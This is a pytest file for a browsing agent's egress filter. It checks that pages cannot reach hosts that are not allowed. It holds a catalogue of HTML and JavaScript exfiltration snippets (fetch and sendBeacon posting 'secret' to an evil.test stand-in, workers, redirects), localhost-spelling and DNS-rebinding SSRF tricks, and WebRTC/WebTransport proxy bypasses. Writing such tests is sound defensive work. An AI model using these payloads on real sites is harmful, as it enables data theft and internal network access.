"""The network: whatever way a page takes to a host that is not allowed, nothing arrives there."""

import socket
from collections.abc import Callable
from contextlib import suppress

import pytest
from cases import first
from selenium.common.exceptions import WebDriverException
from servers import Asked, ScriptedModel, Site, action

from webagent import WebAgent
from webagent.browser import Browser
from webagent.settings import Settings

from .conftest import World, until

# What a page of good.test holds to reach {to}, an address at another host.
WAYS = {
    "location": "<script>location = '{to}'</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={to}'>",
    "form": "<form action='{to}' method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "image": "<img src='{to}'>",
    "script": "<script src='{to}'></script>",
    "style": "<link rel=stylesheet href='{to}'>",
    "background": "<p style='background: url({to})'>x",
    "font": "<style>@font-face {{ font-family: f; src: url({to}) }} p {{ font-family: f }}</style><p>x",
    "frame": "<iframe src='{to}'></iframe>",
    "object": "<object data='{to}'></object>",
    "video": "<video src='{to}' autoplay muted></video>",
    "prefetch": "<link rel=prefetch href='{to}'>",
    "fetch": "<script>fetch('{to}', {{mode: 'no-cors', method: 'POST', body: 'secret'}})</script>",
    "XMLHttpRequest": "<script>const x = new XMLHttpRequest(); x.open('GET', '{to}'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{to}', 'secret')</script>",
    "EventSource": "<script>new EventSource('{to}')</script>",
    "WebSocket": "<script>new WebSocket('{to}'.replace('http', 'ws'))</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{to}', {{mode: 'no-cors'}})`])))</script>",
    "importScripts": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{to}')`])))</script>",
    "pop-up": "<button onclick=\"window.open('{to}')\">x</button>",
    "keepalive on leaving": "<script>onpagehide = () => fetch('{to}', {{keepalive: true, mode: 'no-cors'}});"
    "location = 'http://good.test/left'</script>",
    "redirect": "<img src='/to?{to}'>",
    "redirected page": "<script>location = '/to?{to}'</script>",
    "redirected frame": "<iframe src='/to?{to}'></iframe>",
    "redirect from a friend": "<img src='http://friend.test/to?{to}'>",
}


@pytest.fixture
def visit(walled: Browser, world: World) -> Callable[[str], None]:
    """Open a page of good.test that holds this."""
    walled.driver.get("about:blank")
    walled.dismiss_dialog()
    first, *others = walled.driver.window_handles
    for handle in others:
        walled.driver.switch_to.window(handle)
        walled.driver.close()
    walled.driver.switch_to.window(first)
    for site in (world.good, world.friend):
        site.pages["/to"] = lambda query: (302, {"Location": query}, "")
        site.pages["/left"] = "left"

    def open_it(page: str) -> None:
        world.good.pages["/"] = f"<!doctype html><title>Good</title>{page}"
        with suppress(WebDriverException):  # a page that leads on at once to where nothing answers
            walled.driver.get("http://good.test/")
            for button in walled.driver.find_elements("tag name", "button"):
                button.click()

    return open_it


@pytest.mark.parametrize("way", WAYS)
def test_a_host_that_is_not_allowed_is_not_reached_and_an_allowed_one_is(
    walled: Browser, world: World, visit: Callable[[str], None], way: str
) -> None:
    own = way.lower().replace(" ", "-")  # no other test's refusal or cached answer is taken for this one's
    world.friend.pages[f"/{own}"] = world.evil.pages[f"/{own}"] = "arrived"
    name = f"{own}.evil.test"
    visit(WAYS[way].format(to=f"http://{name}/{own}"))
    until(lambda: walled.egress.why(f"http://{name}/") is not None)
    assert walled.egress.why(f"http://{name}/") == f"{name} is not among the allowed domains"
    visit(WAYS[way].format(to=f"http://friend.test/{own}"))
    until(lambda: world.attempts(f"/{own}"))
    assert world.attempts(f"/{own}") == {"friend.test"}
    assert world.evil.seen == []


@pytest.mark.parametrize("scheme", first(2, ["http", "wss", "https", "ws"]))
@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "inner.test"],
)
def test_what_stands_on_this_machine_is_not_reached_by_any_spelling(world: World, host: str, scheme: str) -> None:
    """Of a page: the judge of the wire never sees these."""
    world.good.pages["/"] = "<title>Good</title>"
    port = world.evil.port
    code = (
        f"new WebSocket('{scheme}://{host}:{port}/w')" if scheme[0] == "w" else f"fetch('{scheme}://{host}:{port}/f')"
    )
    browser = _open_to_the_public(world)
    browser.open("http://good.test/")
    with suppress(WebDriverException):
        browser.driver.execute_script(f"{code}")
    until(lambda: any(f":{port} is on this machine" in refusal for refusal in browser.egress.new_refusals()))
    assert world.evil.seen == []
    browser.egress.begin()


@pytest.fixture(scope="module", autouse=True)
def _end_browsers() -> object:
    yield None
    for browser in _BROWSERS.values():
        browser.close()
    _BROWSERS.clear()


_BROWSERS: dict[int, Browser] = {}


def _open_to_the_public(world: World) -> Browser:
    """Return a browser that may reach every public host; inner.test stands on this machine."""
    if world.good.port not in _BROWSERS:
        routes = {"good.test": world.routes["good.test"]}
        _BROWSERS[world.good.port] = Browser(Settings(), routes=routes, resolve=lambda host: ["127.0.0.1"]).start()
    return _BROWSERS[world.good.port]


def test_a_server_on_this_machine_is_reached_where_the_user_named_it(world: World) -> None:
    world.good.pages["/"] = "<title>Good</title>"
    world.friend.pages["/f"] = (200, {"Access-Control-Allow-Origin": "*"}, "yes")
    named = Settings(allow_host=(f"127.0.0.1:{world.friend.port}",))
    with Browser(named, routes={"good.test": world.routes["good.test"]}) as browser:
        browser.open("http://good.test/")
        fetched = f"return fetch('http://127.0.0.1:{world.friend.port}/f').then(reply => reply.text())"
        assert browser.driver.execute_script(fetched) == "yes"
        browser.open(f"http://127.0.0.1:{world.friend.port}/f")


def test_a_name_that_turns_to_another_address_is_refused_when_it_does(world: World) -> None:
    now = ["127.0.0.1"]
    world.good.pages["/"] = "<title>Start</title>"
    with (
        Site({"/secret": "secret"}, host="127.0.0.2", at=world.good.port) as private,
        Browser(Settings(), resolve=lambda host: now) as browser,
    ):
        start = f"http://rebind.test:{world.good.port}/"
        browser.egress.name_start_page(start)
        browser.open(start)
        now[:] = ["127.0.0.2"]
        # A new connection is needed; the old one stays where it was judged to go.
        browser.driver.execute_script("fetch('/secret', {headers: {Connection: 'close'}}).catch(() => 0)")
        browser.driver.execute_script("for (let i = 0; i < 20; i++) fetch('/secret?' + i).catch(() => 0)")
        until(lambda: browser.egress.why(start) is not None)
        assert "is on this machine" in (browser.egress.why(start) or "")
        assert private.seen == []


PAST_THE_PROXY = {
    "STUN": "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));",
    "TURN": "const peer = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: "
    "['turn:127.0.0.1:PORT', 'turn:127.0.0.1:PORT?transport=tcp'], username: 'a', credential: 'b'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));",
    "WebTransport": "new WebTransport('https://127.0.0.1:PORT/').ready.catch(() => {});",
}


@pytest.mark.parametrize("way", PAST_THE_PROXY)
def test_nothing_goes_past_the_proxy_to_a_server_that_a_page_names(
    walled: Browser, visit: Callable[[str], None], way: str
) -> None:
    with (
        socket.create_server(("127.0.0.1", 0)) as stream,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        port = stream.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        datagrams.settimeout(2)  # the first goes out at once, where any does
        visit(f"<script>{PAST_THE_PROXY[way].replace('PORT', str(port))}</script>")
        with pytest.raises(TimeoutError):
            datagrams.recv(1)
        stream.setblocking(False)
        with pytest.raises(BlockingIOError):
            stream.accept()


@pytest.fixture
def ask(world: World, settings: Settings) -> Callable[..., Asked]:
    """Run a task with these replies, on good.test."""

    def ask(*replies: str) -> Asked:
        with ScriptedModel([action(reply) for reply in replies]) as model:
            told = {"model": "openai/x", "api_base": model.api_base, "allow_host": (), "allow_domain": ("good.test",)}
            with WebAgent(settings=settings.model_copy(update=told), routes=world.routes) as agent:
                result = agent.run("Look around.", url="http://good.test/")
            return Asked(agent, result, model.requests)

    return ask


def test_the_model_is_told_why_a_page_did_not_open(world: World, ask: Callable[..., Asked]) -> None:
    world.good.pages["/"] = "<a href='http://evil.test/'>On</a><img src='http://pixel.test/x.png'>"
    asked = ask("click('On')", "go_to('https://evil.test/x')", "go_back()", "final_answer(1)")
    first, second, third, fourth = (request.text.rpartition("Observation:")[2] for request in asked.requests)
    assert "Not connected to: " in first
    assert "pixel.test is not among the allowed domains" in first
    assert "The page did not open: " in second
    assert "evil.test is not among the allowed domains" in second
    assert "evil.test is not among the allowed domains" in third
    assert "pixel.test" not in second + third + fourth  # said once
    assert "ERR_" not in first + second + third + fourth
    assert world.evil.seen == []
    assert asked.result.answer == 1
